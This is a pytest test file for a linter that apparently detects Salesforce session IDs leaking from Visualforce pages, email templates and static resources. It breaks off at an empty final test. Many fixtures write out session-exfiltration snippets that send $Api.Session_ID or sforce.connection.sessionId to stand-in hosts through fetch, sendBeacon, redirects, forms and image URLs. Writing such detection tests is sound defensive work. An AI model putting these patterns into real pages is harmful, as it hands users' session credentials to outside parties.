"""Visualforce pages, components and email templates: sources, contexts, page facts, sinks."""

from __future__ import annotations

import re
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from apexlint.ir import FileIR, FileKind, SourceKind, SourceSite, UrlUse
from apexlint.lower.visualforce import (
    _attribute_names,
    _one_unclosed_comment,
    _without_cdata_markers,
    lower_visualforce,
    remote_models,
)
from apexlint.read.decode import read_source

PATH = "force-app/main/default/pages/AcmeSetup.page"


def lower(markup: str, kind: FileKind = FileKind.VISUALFORCE_PAGE, path: str = PATH) -> FileIR:
    src, _ = read_source(path, markup.encode("utf-8"), "")
    assert src is not None
    return lower_visualforce(src, kind)


def sessions(ir: FileIR) -> list[SourceSite]:
    return [s for s in ir.sources if s.kind == SourceKind.MERGE_FIELD]


def sink(ir: FileIR, name: str) -> UrlUse:
    found = [u for u in ir.url_uses if u.sink == name]
    assert len(found) == 1, [(u.sink, u.url) for u in ir.url_uses]
    return found[0]


def page(body: str) -> str:
    return f'<apex:page controller="AcmeSetupController">\n{body}\n</apex:page>\n'


def test_merge_field_source_has_position_text_context_and_owner() -> None:
    (source,) = sessions(lower(page('<a href="https://x.example.com/?s={!$Api.Session_ID}">go</a>')))
    assert source.id == f"{PATH}:2:35"
    assert (source.span.start_line, source.span.start_col, source.span.end_col) == (2, 35, 53)
    assert source.text == "{!$Api.Session_ID}"
    assert source.context == "attribute href of <a>"
    assert source.owner == "acmesetup"


def test_merge_field_in_html_comment_is_a_source_and_the_page_emits_a_session() -> None:
    ir = lower(page("<!-- debug: {!$Api.Session_ID} -->"))
    (source,) = sessions(ir)
    assert source.context == "html comment"
    assert ir.pages[0].emits_session
    assert ir.url_uses == ()


@pytest.mark.parametrize("rendered", ['"false"', '"{!false}"', "'{! FALSE }'", '"False"'])
def test_merge_field_in_a_component_rendered_false_is_a_source_the_page_does_not_emit(rendered: str) -> None:
    ir = lower(page(f'<apex:outputText value="{{!$Api.Session_ID}}" rendered={rendered}/>'))
    (source,) = sessions(ir)
    assert source.context == f"not rendered (<apex:outputText rendered={rendered}>)"
    assert not ir.pages[0].emits_session


def test_what_a_component_rendered_false_holds_is_not_rendered_either() -> None:
    """No link, no component, no printed property: nothing inside it reaches the output."""
    ir = lower(page(
        '<apex:outputPanel rendered="false"><p>{!$Api.Session_ID}</p>\n'
        '<a href="https://x.example.com/?s={!$Api.Session_ID}">go</a><c:SessionToken/></apex:outputPanel>\n'
        '<apex:outputText value="{!jsonData}" rendered="false"/><apex:include pageName="Raw" rendered="false"/>'))
    assert [s.context for s in sessions(ir)] == ['not rendered (<apex:outputPanel rendered="false">)'] * 2
    assert ir.url_uses == ()
    (info,) = ir.pages
    assert not info.emits_session and info.embeds == () and info.body_refs == ()


def test_nested_components_rendered_false_name_the_outermost() -> None:
    ir = lower(page('<apex:outputPanel rendered="{!false}"><apex:outputPanel rendered="false">'
                    "{!$Api.Session_ID}</apex:outputPanel></apex:outputPanel>{!$Api.Session_ID}"))
    assert [s.context for s in sessions(ir)] == ["text", 'not rendered (<apex:outputPanel rendered="{!false}">)']
    assert ir.pages[0].emits_session


def test_rendered_depending_on_data_in_a_comment_or_on_an_html_tag_is_rendered() -> None:
    """Only a Visualforce component's literal false hides it: in an HTML comment the tag is text
    (its merge field is filled in all the same), and HTML has no `rendered`."""
    ir = lower(page(
        '<apex:outputText value="{!$Api.Session_ID}" rendered="{!showDebug}"/>\n'
        '<!-- <apex:outputText value="{!$Api.Session_ID}" rendered="false"/> -->\n'
        '<span rendered="false">{!$Api.Session_ID}</span>'))
    assert [s.context for s in sessions(ir)] == ["attribute value of <apex:outputText>", "html comment", "text"]
    assert ir.pages[0].emits_session


def test_page_notes_the_components_and_pages_it_renders() -> None:
    ir = lower(page(
        '<c:SessionToken/><acme:Header title="x"></acme:Header><chatter:feed entityId="x"/>\n'
        '<apex:include pageName="RawSession"/><apex:composition template="{!$Page.acme__Layout}"/>\n'
        '<apex:include pageName="{!chosen}"/><c:SessionToken/><!-- <c:Commented/> -->'))
    assert ir.pages[0].embeds == (
        ("component", "c:sessiontoken"), ("component", "acme:header"), ("component", "chatter:feed"),
        ("page", "rawsession"), ("page", "acme__layout"))


def test_session_mentions_in_javascript_comments_are_not_sources() -> None:
    ir = lower(page("<script>\n// uses $Api.Session_ID and sforce.connection.sessionId\nvar a = 1;\n</script>"))
    assert ir.sources == ()
    assert not ir.pages[0].emits_session


def test_merge_field_inside_a_javascript_comment_is_still_rendered() -> None:
    (source,) = sessions(lower(page("<script>\n// var old = '{!$Api.Session_ID}';\n</script>")))
    assert source.context == "script comment"


def test_string_literal_mentioning_sforce_session_is_not_a_source() -> None:
    ir = lower(page("<script>var help = 'read sforce.connection.sessionId';</script>"))
    assert ir.sources == ()


def test_contexts_of_merge_fields() -> None:
    ir = lower(page(
        '<apex:outputText value="{!$Api.Session_ID}"/>\n'
        "<p>{!GETSESSIONID()}</p>\n"
        "<script>var s = '{! $API.session_id }';</script>\n"
        '<apex:outputLink value="https://x.example.com">'
        '<apex:param name="s" value="{!$Api.Session_ID}"/></apex:outputLink>'
    ))
    assert [s.context for s in sessions(ir)] == [
        "attribute value of <apex:outputText>", "text", "script", "attribute value of <apex:param>",
    ]


def test_displaying_a_session_is_not_a_sink() -> None:
    ir = lower(page('<apex:outputText value="{!$Api.Session_ID}"/>'))
    assert len(sessions(ir)) == 1 and ir.url_uses == ()


def test_page_facts_for_the_package_model() -> None:
    ir = lower(page(
        "<script>var t = {!sessionToken}; var n = '{!acct.Name}';</script>\n"
        "<p>{!greeting} {!$User.FirstName}</p>"
    ).replace('controller="AcmeSetupController"', 'controller="AcmeSetupController" extensions="ExtA, ns__ExtB"'))
    (info,) = ir.pages
    assert (info.name, info.display, info.path) == ("acmesetup", "AcmeSetup", PATH)
    assert info.controller == "acmesetupcontroller"
    assert info.extensions == ("exta", "ns__extb")
    assert info.merge_refs == ("sessiontoken", "acct", "greeting")
    assert info.script_refs == ("sessiontoken", "acct")
    assert info.body_refs == ("greeting",)
    assert not info.emits_session


def test_body_refs_are_what_the_page_prints_outside_its_scripts() -> None:
    """Its text, an `<apex:outputText value>`, a link's address, a plain tag's attributes; not a
    component's `rendered` or `action`, a comment, a script or an event handler."""
    ir = lower(page(
        '<apex:outputText escape="false" value="{!jsonData}" rendered="{!hasData}"/>\n'
        '<apex:outputLink value="/apex/Other?t={!linkToken}">go</apex:outputLink>\n'
        '<apex:commandButton action="{!save}" value="Save"/>\n'
        "<!-- {!commented} -->\n"
        "<script>var t = '{!scripted}';</script>\n"
        "{!callback}({!Payload});\n"
        '<div title="{!tip}" onclick="go(\'{!handled}\')"><apex:outputPanel rendered="{!shown}"/></div>'
    ))
    assert ir.pages[0].body_refs == ("jsonData", "linkToken", "callback", "Payload", "tip")


def test_markup_url_reading_a_controller_property_carries_its_stand_in() -> None:
    """A link, image or GET form field reading `{!prop}` (named like a credential) carries whatever
    session the property's getter returns (resolved by apexlint.analyses.client); a tag that only
    shows it carries none, nor does a link reading a property named otherwise (`{!recordUrl}`)."""
    ir = lower(page(
        '<a href="/apex/Next?t={!URLENCODE(linkToken)}">go</a>\n'
        '<img src="https://cdn.example.com/p.gif?{!pixelSid}"/>\n'
        '<div title="{!tipToken}">x</div><a href="{!recordUrl}">record</a>\n'
        '<apex:outputLink value="{!$Page.Next}"><apex:param name="s" value="{!paramToken}"/></apex:outputLink>'
    ))
    assert sorted((u.sink, u.sources) for u in ir.url_uses) == [
        ("a.href", ("client:binding:linktoken",)), ("apex:outputLink", ("client:binding:paramtoken",)),
        ("img.src", ("client:binding:pixelsid",))]


def test_component_gets_page_facts_and_email_template_does_not() -> None:
    comp = lower('<apex:component controller="C">{!$Api.Session_ID}</apex:component>',
                 FileKind.VISUALFORCE_COMPONENT, "components/Widget.component")
    assert comp.pages[0].name == "widget" and comp.pages[0].emits_session
    email = lower('<messaging:emailTemplate subject="x"><messaging:htmlEmailBody>{!$Api.Session_ID}'
                  "</messaging:htmlEmailBody></messaging:emailTemplate>", FileKind.EMAIL_TEMPLATE,
                  "email/unfiled/Welcome.email")
    assert email.pages == ()
    assert [s.owner for s in sessions(email)] == ["welcome"]


def test_letterhead_cdata_body_and_end_br_in_an_email_template_parse_as_browsers_read_them() -> None:
    """Salesforce stores a letterhead template's body in CDATA; `</br>` is `<br>` to HTML parsers."""
    ir = lower('<table><tr><td locked="0">\n<![CDATA[<p>Hi</br>{!Contact.FirstName}</p>'
               '<p><a href="https://x.example.com/?s={!$Api.Session_ID}">go</a></p>]]></td></tr></table>\n',
               FileKind.EMAIL_TEMPLATE, "email/unfiled/Letterhead.email")
    assert not ir.notifications
    link = sink(ir, "a.href")
    assert link.in_query and (link.span.start_line, link.span.start_col) == (2, 50)


def test_valid_xml_a_page_may_hold_parses_without_notes() -> None:
    """An XML declaration before `<apex:page>`, CDATA, end tags whose names have underscores
    (namespaced or not): Visualforce accepts them, and so does the lowering, sinks included."""
    ir = lower('<?xml version="1.0" encoding="UTF-8"?>\n<apex:page contentType="text/xml">\n'
               "<Fields><ORDER_OWNER><![CDATA[{!$User.FirstName}]]></ORDER_OWNER></Fields>\n"
               '<acme_ui:Panel title="Tools">Tools</acme_ui:Panel><c:Widget_x/>\n'
               '<script>for (var i = 0; i<max_len; i++) { go(i) }</script>\n'
               '<a href="https://x.example.com/?s={!$Api.Session_ID}">go</a>\n</apex:page>\n')
    assert ir.notifications == ()
    link = sink(ir, "a.href")
    assert link.in_query and link.span.start_line == 6


def test_valid_html_of_a_static_resource_parses_without_notes() -> None:
    """A bare `>` in text and an `</html>` whose optional start tag is left out: valid HTML."""
    ir = lower("<!DOCTYPE html>\n<head><title>graph</title></head>\n<body>\n<p>(> 50.000 nodes)</p>\n"
               "<pre>digraph {1 -> 1 -> 2;}</pre>\n"
               "<script>fetch('https://c.example.com/in', {body: sforce.connection.sessionId});</script>\n"
               "</body>\n</html>\n", FileKind.STATIC_RESOURCE, "staticresources/Docs.resource")
    assert ir.notifications == ()
    assert sink(ir, "fetch").url == "https://c.example.com/in"


def test_what_a_textarea_or_title_of_a_static_html_file_holds_is_text() -> None:
    """An editor library's demo page shows sample code, tags and all, in a `<textarea>`: a
    browser reads it as text up to `</textarea>`, so no parse problem, and the script after it is
    read as before. One whose end tag is missing runs to the end of the file, as in a browser."""
    ir = lower("<!DOCTYPE html>\n<head><title>a <b> demo</title></head>\n<body>\n"
               '<form><textarea id="code" name="code">\n<p>For example.</p>\n<ul>\n  <li>one\n'
               "for (var i = 0; i < items.length; i++) { log('<' + i + '>') }\n</textarea></form>\n"
               "<script>fetch('https://c.example.com/in', {body: sforce.connection.sessionId});</script>\n"
               "</body>\n</html>\n", FileKind.STATIC_RESOURCE, "staticresources/Docs.resource")
    assert ir.notifications == ()
    assert sink(ir, "fetch").url == "https://c.example.com/in"
    unended = lower("<!DOCTYPE html>\n<body>\n<textarea>\n<ul>\n<li>one\n<div x='>\n",
                    FileKind.STATIC_RESOURCE, "staticresources/Docs.resource")
    assert unended.notifications == ()


def test_textarea_and_title_text_is_found_in_linear_time() -> None:
    """Hostile markup: start tags never closed, or never ended, by the ten thousand. Reading what
    they hold costs one search from each (a pattern that skipped quoted attribute values tried
    every opener to the end of the file: 20,000 unclosed `<title ` took 75 s, in C code no
    per-file time limit interrupts)."""
    from apexlint.lower.visualforce import _escapable_raw_text
    for unit in (b"<title ", b'<title a="', b"<textarea>", b"<title>x</title>"):
        started = time.process_time()
        _escapable_raw_text(unit * 100_000)
        assert time.process_time() - started < 2.0, unit


def test_a_line_opening_with_an_html_comment_in_a_script_is_a_comment_after_an_unended_statement() -> None:
    """ECMAScript Annex B: `<!--` and `-->` at a line's start comment out the line in a classic
    script, and the line break ends the statement before it."""
    ir = lower(page('<script>\n  document.addEventListener("load", function(){ go("a") })\n'
                    '<!--document.addEventListener("load", function(){ go("b") })-->\n'
                    "  var sid = '{!$Api.Session_ID}';\n"
                    "  fetch('https://x.example.com/sync', {headers: {'Authorization': 'Bearer ' + sid}});\n"
                    '</script>'))
    assert not ir.notifications
    assert sink(ir, "fetch").url.startswith("https://x.example.com/sync")


def test_a_merge_field_written_over_lines_in_a_script_is_one_value() -> None:
    ir = lower(page("<script>\nif ({!isAdmin\n    }) {\n  var sid = '{!$Api.Session_ID}';\n"
                    "  fetch('https://x.example.com/in?s=' + sid);\n}\n</script>"))
    assert not ir.notifications
    assert sink(ir, "fetch").in_query


def test_a_session_a_script_posts_through_an_action_function_names_the_property_it_sets() -> None:
    ir = lower(page(
        '<apex:actionFunction name="send" action="{!send}"><apex:param name="a" value=""/>'
        '<apex:param name="b" value="" assignTo="{!apiSession}"/></apex:actionFunction>'
        '<apex:actionFunction name="noop" action="{!noop}"/>\n'
        "<script>send('a, (b)', \"{!$Api.Session_ID}\"); send('{!$Api.Session_ID}');"
        " noop('{!$Api.Session_ID}');</script>"))
    source = min(sessions(ir), key=lambda s: s.span.start_col)  # the first call's
    # only the second argument has a property to go to; the first and a function without params do not
    assert ir.pages[0].posted_args == (("apisession", source.id, "<apex:actionFunction>"),)


def test_a_command_link_posts_its_session_params_back_by_name_and_into_assigned_properties() -> None:
    ir = lower(page(
        '<apex:form><apex:commandLink action="{!refresh}">'
        '<apex:param name="licenseSid" value="{!$Api.Session_ID}"/></apex:commandLink>\n'
        '<apex:commandButton action="{!save}"><apex:param name="Other" value="{!$Api.Session_ID}" '
        'assignTo="{!postedSid}"/><apex:param name="plain" value="{!x}"/></apex:commandButton>\n'
        '<apex:outputLink value="/apex/Next"><apex:param name="link" value="{!$Api.Session_ID}"/></apex:outputLink>'
        '</apex:form>'))
    by_line = {s.span.start_line: s.id for s in sessions(ir)}
    link, button = by_line[min(by_line)], by_line[sorted(by_line)[1]]
    # names lower case; a param without a session, and an output link's (a URL, not a postback), are not posted
    # with the action each posts back to, which alone reads what it posts
    assert ir.pages[0].posted_params == (("licensesid", link, "<apex:commandLink>", "refresh"),
                                         ("other", button, "<apex:commandButton>", "save"))
    assert ir.pages[0].posted_args == (("postedsid", button, "<apex:commandButton>"),)


def test_an_unclosed_command_link_s_params_end_at_the_next_command() -> None:
    """Never closed, a command link's body runs to the next command: each param is its own
    command's, and thousands of unclosed links lower in linear time (no body read to the end)."""
    ir = lower(page(
        '<apex:commandLink action="{!first}"><apex:param name="a" value="{!$Api.Session_ID}"/>\n'
        '<apex:commandButton action="{!second}"><apex:param name="b" value="{!$Api.Session_ID}"/>\n'))
    assert [(name, action) for name, _, _, action in ir.pages[0].posted_params] == [("a", "first"), ("b", "second")]
    many = lower(page('<apex:commandLink action="{!go}"><apex:param name="p" value="{!x}"/>\n' * 3_000
                      + '<apex:commandLink action="{!last}"><apex:param name="q" value="{!$Api.Session_ID}"/>'))
    assert [(name, action) for name, _, _, action in many.pages[0].posted_params] == [("q", "last")]


def test_a_session_a_page_script_keeps_in_a_global_is_recorded_with_the_scripts_the_page_loads() -> None:
    ir = lower(page(
        '<apex:includeScript value="{!$Resource.app}"/><script src="/js/lib.js"></script>\n'
        "<script>var token = '{!$Api.Session_ID}';\n"
        "window.cfg = {auth: {sid: '{!$Api.Session_ID}'}};\n"
        "function f() { var own = '{!$Api.Session_ID}'; return own.length; }\n"
        "sforce.connection.sessionId = '{!$Api.Session_ID}';</script>"))
    by_line = {s.span.start_line: s.id for s in sessions(ir)}
    # the outermost global holding each, without `window.`; not a function's own variable, not
    # the AJAX Toolkit's connection (a sink of its own)
    assert {(g.source_id, g.name) for g in ir.session_globals if g.how == "global"} == \
        {(by_line[3], "token"), (by_line[4], "cfg")}
    assert {g.loads for g in ir.session_globals} == {("{!$Resource.app}", "/js/lib.js")}


def test_static_html_does_not_evaluate_merge_fields() -> None:
    ir = lower('<a href="https://x.example.com/?s={!$Api.Session_ID}">x</a>', FileKind.STATIC_RESOURCE)
    assert ir.sources == () and ir.url_uses == () and ir.pages == ()


def test_unicode_before_a_merge_field_gives_utf16_columns() -> None:
    (source,) = sessions(lower("<p>😀é {!$Api.Session_ID}</p>"))
    # "<p>" is 3 units, the emoji 2, "é" 1, the space 1: the merge field starts at column 8.
    assert (source.span.start_col, source.span.end_col) == (8, 26)


def test_crlf_page_positions() -> None:
    ir = lower('<apex:page>\r\n<p>x</p>\r\n<a href="/x?s={!$Api.Session_ID}">y</a>\r\n</apex:page>\r\n')
    (source,) = sessions(ir)
    assert (source.span.start_line, source.span.start_col) == (3, 15)
    assert sink(ir, "a.href").span.start_line == 3


def test_truncated_page_reports_a_parse_problem_and_keeps_earlier_sources() -> None:
    ir = lower('<apex:page>\n<a href="https://x.example.com/?s={!$Api.Session_ID}">x</a>\n<div class="a')
    assert any(n.code == "parse-error" and n.path == PATH for n in ir.notifications)
    assert len(sessions(ir)) == 1
    assert sink(ir, "a.href").in_query


def test_truncated_link_still_encloses_its_parameter() -> None:
    ir = lower('<apex:page>\n<apex:outputLink value="https://x.example.com">'
               '<apex:param name="s" value="{!$Api.Session_ID}"/>\n<div class="a')
    assert sink(ir, "apex:outputLink").url == "https://x.example.com?s={!$Api.Session_ID}"


def test_merge_fields_that_look_like_markup_do_not_break_the_page() -> None:
    ir = lower(page('<p title="{!IF(a > b, "x", "y")}">{!IF(a > b, "<b>", "")}</p>'))
    assert ir.notifications == ()


def test_self_closing_script_and_style_are_whole_elements() -> None:
    # Visualforce is XML: `<script .../>` ends there. Read as HTML, its raw text would run on to
    # the page's end: parse errors, and the markup after it (this link) unseen.
    ir = lower(page(
        '<apex:outputPanel rendered="{!debug}">\n'
        '  <script type="text/javascript" src="{!URLFOR($Resource.lib, \'a.js\')}"/>\n'
        '  <SCRIPT src="https://cdn.example.com/b.js?sid={!$Api.Session_ID}" />\n'
        '  <style type="text/css" title="a/>b"/>\n'
        '</apex:outputPanel>\n'
        '<a href="https://x.example.com/?s={!$Api.Session_ID}">a</a>\n'
        '<script>var t = 1;</script>'
    ))
    assert ir.notifications == ()
    assert sink(ir, "script.src").url == "https://cdn.example.com/b.js?sid={!$Api.Session_ID}"
    assert sink(ir, "script.src").span.start_line == 4
    assert sink(ir, "a.href").in_query
    assert len(sessions(ir)) == 2


@pytest.mark.parametrize(("body", "sink_name"), [
    # Visualforce tags inside a script repeat its lines; the script goes on after them
    ("<script>\n"
     "  var ids = [];\n"
     '  <apex:repeat var="a" value="{!rows}">\n'
     "    ids.push('{!a.Id}');\n"
     "  </apex:repeat>\n"
     "  window.location.href = 'https://collector.example.com/in?sid={!$Api.Session_ID}';\n"
     "</script>", "window.location"),
    # `<span>></span>` is well-formed XML; the HTML grammar alone calls it an error
    ('<div class="pager"><span class="next">></span> <span>1 -> 2</span></div>\n'
     "<script>if (a > b) { var x = '<b>'; }</script>\n"
     '<a href="https://x.example.com/?s={!$Api.Session_ID}">go</a>', "a.href"),
    # a bare `&` in text is valid HTML (no character reference starts there); one in a URL stays
    ("<p>Terms & conditions &amp; more, Sales&Support &#38; &#x26;</p>\n"
     '<a href="https://x.example.com/?a=1&s={!$Api.Session_ID}">go</a>', "a.href"),
    # a component whose name has an underscore: the grammar refuses it in an end tag only
    ('<c:Contact_new contact="x"></c:Contact_new>\n'
     '<a href="https://x.example.com/?s={!$Api.Session_ID}">go</a>', "a.href"),
], ids=["apex-repeat-in-script", "greater-than-in-text", "ampersand-in-text", "underscore-in-component-name"])
def test_markup_the_html_grammar_alone_misreads_is_read_whole(body: str, sink_name: str) -> None:
    ir = lower(page(body))
    assert ir.notifications == ()
    assert sink(ir, sink_name).in_query


def test_markup_url_sinks() -> None:
    ir = lower(page(
        '<a href="https://x.example.com/?sid={!$Api.Session_ID}&amp;a=1">a</a>\n'
        '<iframe src="https://f.example.com/?s={!GETSESSIONID()}"></iframe>\n'
        '<apex:iframe src="https://g.example.com/?s={!$Api.Session_ID}"/>\n'
        '<meta http-equiv="refresh" content="0; url=https://m.example.com/?s={!$Api.Session_ID}"/>\n'
        '<img src="https://i.example.com/p.gif?s={!$Api.Session_ID}"/>\n'
        '<a href="/apex/Other">safe</a>'
    ))
    assert sink(ir, "a.href").url == "https://x.example.com/?sid={!$Api.Session_ID}&a=1"
    assert sink(ir, "iframe.src").in_query
    assert sink(ir, "apex:iframe").in_query
    assert sink(ir, "meta.refresh").url == "https://m.example.com/?s={!$Api.Session_ID}"
    assert sink(ir, "img.src").sources == (f"{PATH}:6:41",)
    assert len(ir.url_uses) == 5


def test_link_parameter_puts_the_session_in_the_link_url() -> None:
    ir = lower(page(
        '<apex:outputLink value="https://x.example.com/launch">\n'
        '  <apex:param name="sid" value="{!$Api.Session_ID}"/>Launch\n'
        "</apex:outputLink>"
    ))
    use = sink(ir, "apex:outputLink")
    assert use.url == "https://x.example.com/launch?sid={!$Api.Session_ID}"
    assert use.in_query and use.span.start_line == 3


def test_form_field_goes_to_the_form_action() -> None:
    ir = lower(page(
        '<form action="https://x.example.com/sso" method="POST">\n'
        '<input type="hidden" name="sid" value="{!$Api.Session_ID}"/>\n</form>\n'
        '<form action="https://y.example.com/get"><input name="s" value="{!$Api.Session_ID}"/></form>'
    ))
    post, get = sorted((u for u in ir.url_uses if u.sink == "form.submit"), key=lambda u: u.span)
    assert (post.url, post.header_or_body, post.in_query) == ("https://x.example.com/sso", True, False)
    assert (get.url, get.in_query) == ("https://y.example.com/get", True)


def test_script_flow_from_merge_field_to_request_header() -> None:
    ir = lower(page(
        "<script>\n"
        "var sid = '{!$Api.Session_ID}';\n"
        "var h = 'Bearer ' + sid;\n"
        "var xhr = new XMLHttpRequest();\n"
        "xhr.open('GET', 'https://api.example.com/v1');\n"
        "xhr.setRequestHeader('Authorization', h);\n"
        "</script>"
    ))
    use = sink(ir, "XMLHttpRequest.setRequestHeader")
    assert use.url == "https://api.example.com/v1"
    assert use.sources == (f"{PATH}:3:12",)
    assert (use.span.start_line, use.span.start_col) == (7, 1)


def test_scripts_of_a_page_share_one_scope() -> None:
    ir = lower(page(
        "<script>var sid = '{!GETSESSIONID()}';</script>\n"
        "<script>fetch('https://later.example.com/?s=' + sid);</script>"
    ))
    assert sink(ir, "fetch").url == "https://later.example.com/?s={!GETSESSIONID()}"


def test_ajax_toolkit_session_global_is_a_supported_sink() -> None:
    ir = lower(page(
        '<script src="/soap/ajax/58.0/connection.js"></script>\n'
        "<script>var __sfdcSessionId = '{!GETSESSIONID()}';</script>"
    ))
    assert sink(ir, "sforce.connection").header_or_body


def test_event_handler_attribute_is_javascript() -> None:
    ir = lower(page("<button onclick=\"window.open('https://x.example.com/?s={!$Api.Session_ID}')\">x</button>"))
    (source,) = sessions(ir)
    assert source.context == "attribute onclick of <button>"
    assert sink(ir, "window.open").url == "https://x.example.com/?s={!$Api.Session_ID}"
    assert ir.pages[0].script_refs == ()


def test_session_kept_in_an_unused_variable_yields_no_sink() -> None:
    ir = lower(page("<script>var sid = '{!$Api.Session_ID}';</script>"))
    assert len(sessions(ir)) == 1 and ir.url_uses == ()


def test_javascript_sources_in_page_scripts() -> None:
    ir = lower(page("<script>fetch('https://x.example.com/?s=' + sforce.connection.sessionId);</script>"))
    (source,) = ir.sources
    assert source.kind == SourceKind.JS_SFORCE_SESSION and source.context == "script"
    assert sink(ir, "fetch").sources == (source.id,)


def test_suppressions_in_markup_and_script_comments() -> None:
    ir = lower(page(
        "<!-- apexlint:disable-next-line SID002 -- partner SSO, reviewed -->\n"
        '<a href="https://x.example.com/?s={!$Api.Session_ID}">x</a>\n'
        "<script>\n// apexlint:disable-next-line SID010 -- toolkit\n"
        "sforce.connection.sessionId = '{!$Api.Session_ID}';\n</script>"
    ))
    markup, script = ir.suppressions
    assert (markup.rule_ids, markup.reason) == (("SID002",), "partner SSO, reviewed")
    assert (markup.line, markup.target_line) == (2, 3)
    assert (script.rule_ids, script.line, script.target_line) == (("SID010",), 5, 6)


def test_token_literals_in_and_outside_html_comments_are_redacted_sources() -> None:
    """A token in an HTML comment is in the source, and Visualforce sends the comment to every
    browser that opens the page: reported as one in a script is, and named as comment text."""
    token = "00D5g000004ABCD!AQ4AQFakeTokenValue1234567890abcdef"
    ir = lower(page(f"<!-- {token} -->\n<script>var t = '{token}';</script>"))
    commented, scripted = sorted(ir.sources, key=lambda s: s.span)
    assert {commented.kind, scripted.kind} == {SourceKind.TOKEN_LITERAL}
    assert (commented.span.start_line, commented.context) == (2, "text in a comment")
    assert (scripted.span.start_line, scripted.context) == (3, "literal")
    assert token not in commented.text and token not in scripted.text


def test_one_megabyte_single_line_page_is_fast() -> None:
    """A 1 MB page on one line lowers in time linear in its size: ten times the markup takes
    about ten times the CPU time of a tenth of it (a scan on a shared CI runner is slowed by
    others' load, so the CPU time is compared, and with a tenth of the page, not a constant)."""
    unit = '<div class="row"><span title="{!item.Name}">Hello {!user.Name} é</span><a href="/apex/x">x</a></div>'
    link = '<a href="https://x.example.com/?s={!$Api.Session_ID}">x</a></apex:page>'

    def timed(size: int) -> tuple[FileIR, float]:
        markup = '<apex:page controller="C">' + unit * (size // len(unit)) + link
        start = time.process_time()
        ir = lower(markup)
        return ir, time.process_time() - start

    _, tenth = min((timed(99_000) for _ in range(3)), key=lambda r: r[1])
    ir, whole = timed(990_000)
    assert whole < 3.0 and whole < 25 * max(tenth, 0.01), (whole, tenth)
    assert len(sessions(ir)) == 1 and sink(ir, "a.href").in_query


@settings(max_examples=150, deadline=None)
@given(st.lists(st.sampled_from([
    "<", ">", "</", "/>", "<script>", "</script>", "<!--", "-->", "{!", "}", "$Api.Session_ID", "GETSESSIONID()",
    '"', "'", "=", "a", " href", "<a", "<apex:param value=", "<form", "onclick=", "sforce.connection.sessionId",
    "\n", "é", "&amp;", "var x = ",
])).map("".join), st.sampled_from([FileKind.VISUALFORCE_PAGE, FileKind.EMAIL_TEMPLATE, FileKind.STATIC_RESOURCE]))
def test_any_markup_lowers_without_raising(markup: str, kind: FileKind) -> None:
    lower(markup, kind)


def test_urlfor_with_a_literal_address_is_that_address_with_its_parameters() -> None:
    ir = lower(page("<a href=\"{!URLFOR('https://app.partner.example.com/v?x=1', null, "
                    "[sid=$Api.Session_ID, mode='edit'])}\">v</a>"))
    link = sink(ir, "a.href")
    assert link.url == "https://app.partner.example.com/v?x=1&sid={!$Api.Session_ID}&mode={!'edit'}"
    assert link.in_query


def test_an_html_email_template_may_leave_its_optional_end_tags_out() -> None:
    ir = lower("<html><body>\n<p>Hello {!Contact.FirstName},\n"
               "<p><a href=\"https://app.partner.example.com/c?sid={!API.Session_ID}\">case</a>\n",
               FileKind.EMAIL_TEMPLATE, "email/unfiled/CaseUpdate.email")
    assert ir.notifications == ()
    assert sink(ir, "a.href").in_query


def test_a_text_email_templates_double_angle_placeholders_are_text() -> None:
    """`<<Grant_Number__c>>` in a text template (triage T-11) is no markup: no parse-error note,
    and a session merge field after it is still found at its place."""
    ir = lower("<<Project_Directors__c>>\n\nGrant #: <<Grant_Number__c>>\n"
               "Renew: https://grants.partner.example.com/r?sid={!API.Session_ID}\n",
               FileKind.EMAIL_TEMPLATE, "email/unfiled/Closeout.email")
    assert ir.notifications == ()
    (source,) = sessions(ir)
    assert source.span.start_line == 4


def test_a_space_between_a_tags_slash_and_its_end_is_still_a_self_closing_tag() -> None:
    """`<apex:pageMessages / >` compiles in Visualforce (eleven pages of one org dump wrote it); the
    markup after it is parsed, with no parse-error note."""
    ir = lower(page('<apex:pageMessages / >\n<apex:form >\n<a href="https://x.partner.example.com/?s='
                    '{!$Api.Session_ID}">x</a>\n</apex:form>'))
    assert ir.notifications == ()
    assert sink(ir, "a.href").in_query


def test_a_field_holding_the_session_is_read_back_by_the_pages_script() -> None:
    """U-17: `<input type="hidden" id="sid" value="{!$Api.Session_ID}">` read with
    `document.getElementById('sid').value` (or a meta tag's `content`, by selector) is the session."""
    ir = lower(page(
        '<input type="hidden" id="sid" value="{!$Api.Session_ID}"/>\n'
        '<meta name="tok" content="{!$Api.Session_ID}"/>\n'
        '<input id="other" value="{!$CurrentPage.parameters.id}"/>\n'
        '<script>\n'
        'var el = document.getElementById("sid");\n'
        'fetch("https://x.example.com/a?t=" + el.value);\n'
        'navigator.sendBeacon("https://x.example.com/b", document.querySelector("meta[name=tok]").content);\n'
        'window.open("https://x.example.com/c?r=" + document.getElementById("other").value + $("#sid").attr("x"));\n'
        '$.post("https://x.example.com/d", {s: jQuery("input#sid").val()});\n'
        '</script>'))
    sid, tok = sessions(ir)
    assert sink(ir, "fetch").sources == (sid.id,) and sink(ir, "fetch").in_query
    assert sink(ir, "navigator.sendBeacon").sources == (tok.id,)
    assert sink(ir, "jQuery.post").sources == (sid.id,)
    assert [u.sink for u in ir.url_uses if u.sink == "window.open"] == []


def test_a_field_id_written_as_a_merge_field_is_not_followed() -> None:
    ir = lower(page('<input type="hidden" id="{!fieldId}" value="{!$Api.Session_ID}"/>\n'
                    '<script>fetch("https://x.example.com/a?t=" + document.getElementById("sid").value);</script>'))
    assert ir.url_uses == ()


@pytest.mark.parametrize("closer", ['"</script" + ">"', "'</script' + '>'", '"</SCRIPT"+">"', "'</style'+'>'"])
def test_a_script_writing_a_closing_tag_in_pieces_is_still_one_script(closer: str) -> None:
    """`"</script" + ">"` does not end a script: a browser ends it only at `</script` followed by a
    space, `/` or `>`. Read as the end, the rest of the script and page were parse errors, and the
    request after it was never seen."""
    ir = lower(page("<script>\n  document.write('<b>' + " + closer + ");\n"
                    "  fetch('https://api.partner.example.com/?s={!$Api.Session_ID}');\n</script>\n<p>after</p>"))
    assert ir.notifications == ()
    assert [(u.sink, u.url) for u in ir.url_uses] == [("fetch", "https://api.partner.example.com/?s={!$Api.Session_ID}")]
    assert [u.span.start_line for u in ir.url_uses] == [4]


def test_a_merge_field_over_two_lines_inside_a_script_string_parses_without_notes() -> None:
